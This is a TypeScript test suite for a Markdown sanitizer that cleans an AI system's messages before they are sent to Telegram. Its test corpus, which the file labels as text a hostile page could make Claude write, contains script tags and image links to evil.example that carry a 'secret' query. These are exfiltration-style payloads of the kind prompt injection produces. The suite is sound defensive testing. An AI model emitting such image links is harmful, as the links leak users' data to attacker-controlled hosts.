import { describe, expect, test } from "vitest";
import { sanitizeMarkdown } from "../../../lib/telegram/sanitize-markdown.ts";
import { checkRichMessage } from "../../emulators/telegram/validate/check-rich-message.ts";
import { richMarkdownParser } from "../../emulators/telegram/validate/markdown-rules.ts";
import { seededRandom } from "../seeded-random.ts";

const parser = richMarkdownParser();

/** What a Markdown reader finds, by kind: a judge that shares no line with the code under test. */
function tokensOf(markdown: string) {
  return parser
    .parse(markdown, { footnotes: new Set() })
    .flatMap((token) => [token, ...(token.children ?? [])]);
}

function dangersIn(markdown: string): string[] {
  return readable(markdown)
    .filter(({ type }) => /^html|^image/.test(type))
    .map(({ content }) => content);
}

/** Telegram refuses a formula without its end: then nothing of the text is shown. */
function readable(markdown: string) {
  try {
    return tokensOf(markdown);
  } catch (refusal) {
    expect(String(refusal)).toContain("end of the formula");
    return [];
  }
}

function codeIn(markdown: string): string[] {
  return tokensOf(markdown)
    .filter(({ type }) => /code|fence|formula/.test(type))
    .map(({ content }) => content);
}

/** What a hostile page could make Claude write, and what Claude writes by itself. */
const corpus: readonly string[] = [
  "Hello <b>there</b>",
  "<script>alert(1)</script>",
  "<img src=https://evil.example/?q=secret>",
  "<!-- comment --> <!DOCTYPE html> <?php ?>",
  "</details>",
  "<tg-button text=x url=https://e.example>",
  "![pixel](https://evil.example/p.png)",
  "![pixel][ref]\n\n[ref]: https://evil.example/p.png",
  "![ref]\n\n[ref]: https://evil.example/p.png",
  "[![x](https://evil.example/p.png)](https://e.example)",
  "!\\[x](https://evil.example/p.png)",
  "\\<b> and \\\\<b> and \\\\\\<b>",
  "\\![a](https://e.example/a.png) \\\\![a](https://e.example/a.png)",
  "`<b>` stays, <b> does not",
  "``<b> ` <i>`` and ` <u> ``",
  "a ` b\n\n<script>x</script> ` c",
  "[l](a(b)`c) <i> `",
  "[^`] <i> `\n\n[^`]: x",
  "||a ` b|| <i> `",
  "==a ` b== <i> `",
  "$a ` b$ <i> `",
  "a `\n\u00a0\nb` <i> `",
  "~~~ x ![a](https://e.example/a.png)|\n|- ",
  "\\`<b>bold</b>\\`",
  "`a\\` <b> `",
  "```html\n<b>x</b>\n```\nand <b>y</b>",
  "~~~\n<b>\n~~~\n<i>",
  "   ```\n<b>\n   ```\n<i>x</i>",
  "   ~~~\n<b>\n   ~~~\n<i>x</i>",
  "```\n<b>\n````\n<script>x</script>",
  "````\n```\n<b>\n```\n````\n<i>",
  "```a`b\n<script>x</script>\n```",
  "~~~a`b\n<i>x</i>\n~~~\n<b>",
  "```js\nlet x = '<b>';",
  "`` <b>",
  "text ```\n<b>\n``` <i>",
  "> ```\n> <b>\n> ```\n> <i>x</i>",
  "> ```\n> <b>\n\n<script>x</script>\n\n```\ncode\n```",
  "- item\n\n  ```html\n  <b>\n  ```\n\n  <i>x</i>",
  "1. one\n   ~~~\n   <b>\n   ~~~\n   <i>x</i>",
  "- a\n\n      <b>indented code</b>\n\n<i>x</i>",
  "para\n    <b>not code</b>",
  "\n    <b>indented code</b>\n",
  "If a<b and c>d then",
  "$a<b$ and $$x<y$$ and $5 <b>",
  "$$\nx<y\n$$",
  "```math\nx<y\n```",
  "| a | b |\n|---|---|\n| `<b>` | <i> |",
  "| a | b |\n|---|---|\n| x \\| ` | <i> ` |",
  "# Title <b>\n\n**bold <i>x</i>** ==m== ||<u>spoiler</u>||",
  "<https://example.org> and <mailto:a@b.c>",
  "[link](<https://example.org/a b>) [x](https://e.example '<b>')",
  "[a]: <https://e.example> '<b>'\n\n[a]",
  "`` ` ``<b>",
  "\t<b>tabbed code</b>",
  "a\r\n```\r\n<b>\r\n```\r\n<i>x</i>",
  "```\n<b>\n```   \n<i>x</i>",
  "```\n<b>\n``` no end\n<i>",
  "&lt;b&gt; &#60;i>",
  "<\nb>",
  "2 < 3, <3, < b>",
  "[^1]: <b>x</b>",
  "*<b>*",
  "`",
  "```",
  "\\",
  "",
];

describe("no raw HTML and no image from elsewhere", () => {
  test.each(corpus)("is left of %j", (markdown) => {
    expect(dangersIn(sanitizeMarkdown(markdown))).toEqual([]);
  });

  test("is left of what chance puts together", () => {
    for (const markdown of randomTexts(21, 4000)) {
      expect(dangersIn(sanitizeMarkdown(markdown)), JSON.stringify(markdown)).toEqual([]);
    }
  });
});

describe("code", () => {
  test.each([
    "`<b>` stays, <b> does not",
    "`a < b` and `![x](y)` and `Map<string>` <b>",
    "`` ` ``<b>",
    "`a\\\\` <b> `c<d>`",
    "\\\\`<b>` `c<d>`",
    "`x | y<z>` and `a == b<c>` and `$<HOME>`",
    "- `<b>`\n- `<i>` <b>",
    "```html\n<b>x</b>\n```\nand <b>y</b>",
    "~~~\n<b>\n~~~\n<i>",
    "   ```\n   <b>\n     <i>\n   ```\n<i>x</i>",
    "````\n```\n<b>\n```\n````\n<i>",
    "~~~a`b\n<i>x</i>\n~~~\n<b>",
    "```js\nlet x = '<b>';",
    "```\n\n<b>\n\n```",
    "- item\n\n  ```html\n  <b>\n    <i>\n  ```\n\n  <i>x</i>",
    "1. one\n   ~~~\n   <b>\n   ~~~\n2. two <b>",
    "- ```html\n  <b>\n  ```\n- <i>",
    "| a | b |\n|---|---|\n| `<b>` | <i> |",
    "```math\nx<y\n```",
    "a\r\n```\r\n<b>\r\n```\r\n<i>x</i>",
  ])("reads as before in %j", (markdown) => {
    expect(codeIn(sanitizeMarkdown(markdown))).toEqual(codeIn(markdown));
  });

  test("does not end early where its margin is gone", () => {
    const longer = sanitizeMarkdown("1. a\n\n   ```\n       `````text\n   <b>\n   ```\n<i>");
    expect(codeIn(longer)).toEqual(["    `````text\n<b>\n"]);
    expect(dangersIn(sanitizeMarkdown("      ```\n      ~~~\n<b>\n"))).toEqual([]);
  });

  // Only a whole Markdown reader could tell these from prose; a backslash in sight is the lesser evil.
  test.each(["\n    <b>indented</b>\n", "> ```\n> <b>\n> ```", "`a\n<b>`"])(
    "shows a backslash in %j",
    (markdown) => {
      expect(codeIn(sanitizeMarkdown(markdown)).join()).toContain("\\<b>");
    },
  );
});

describe("a formula", () => {
  test.each([
    ["$a<b$ and $x<y$", "$a< b$ and $x< y$"],
    ["$$a<b$$", "$$a< b$$"],
    ["$$\na<b\n$$", "$$\na< b\n$$"],
  ])("means the same: %j", (markdown, safe) => {
    expect(sanitizeMarkdown(markdown)).toBe(safe);
  });

  test("that is not finished, or holds a fence, is shown as it is written", () => {
    expect(sanitizeMarkdown("So\n\n$$\nx = 1")).toBe("So\n\n\\$\\$\nx = 1");
    const fenced = sanitizeMarkdown("$$\n```\n$$\n<b>x</b>\n```\n<i>");
    expect(dangersIn(fenced)).toEqual([]);
    expect(codeIn(fenced)).toEqual(["$$\n<b>x</b>\n"]);
  });
});

test("what needs no care is left as it is", () => {
  const plain = "**Bold**, _soft_, `x < y`, 2 < 3, wow! [link](https://e.example) 🚢\n\n- [ ] a";
  expect(sanitizeMarkdown(plain)).toBe(plain);
});

test("the words stay readable: only the tag's bracket is escaped", () => {
  expect(sanitizeMarkdown("Use <b> for bold")).toBe("Use \\<b> for bold");
  expect(sanitizeMarkdown("![a](https://e.example/a.png)")).toBe("\\![a](https://e.example/a.png)");
});

test("cleaning twice changes nothing more", () => {
  for (const markdown of [...corpus, ...randomTexts(22, 1500)]) {
    const once = sanitizeMarkdown(markdown);
    expect(sanitizeMarkdown(once), JSON.stringify(markdown)).toBe(once);
  }
});

test("Telegram takes what comes out, if it would take the text at all", () => {
  const context = { media: new Map(), isDraft: false };
  let taken = 0;
  for (const markdown of [...corpus, ...randomTexts(23, 1500)]) {
    try {
      checkRichMessage({ markdown: sanitizeMarkdown(markdown) }, context);
      taken += 1;
    } catch (refusal) {
      // These say nothing about HTML or media; the part then goes plain (see send-part).
      expect(String(refusal), JSON.stringify(markdown)).toMatch(
        /must be non-empty|end of the (formula|math block)|delimiter row|too many|must not be empty|URL_INVALID/,
      );
    }
  }
  expect(taken).toBeGreaterThan(1000);
});

test("a long hostile text is cleaned at once", () => {
  for (const piece of [
    "`",
    "``` ",
    "<a ",
    "\\<",
    "![",
    "~~~\n",
    "$",
    "$$x\n",
    "` `` ",
    "-    ",
    "1. ",
  ]) {
    const markdown = piece.repeat(Math.ceil(30_000 / piece.length));
    expect(dangersIn(sanitizeMarkdown(markdown).slice(0, 3000))).toEqual([]);
  }
});

function randomTexts(seed: number, count: number): string[] {
  const random = seededRandom(seed);
  const pieces = [
    "`",
    "``",
    "```",
    "~~~",
    "\n",
    "\n\n",
    "    ",
    "  ",
    "\\",
    "<b>",
    "</b>",
    "<!--",
    "![a](https://e.example/a.png)",
    "!",
    "[",
    "]",
    "(x)",
    "> ",
    "- ",
    "$",
    "$$",
    "a",
    "|",
    "*",
    " ",
    "\t",
    "\r\n",
  ];
  const piece = () => pieces[Math.floor(random() * pieces.length)] ?? "";
  return Array.from({ length: count }, () =>
    Array.from({ length: 2 + Math.floor(random() * 14) }, piece).join(""),
  );
}
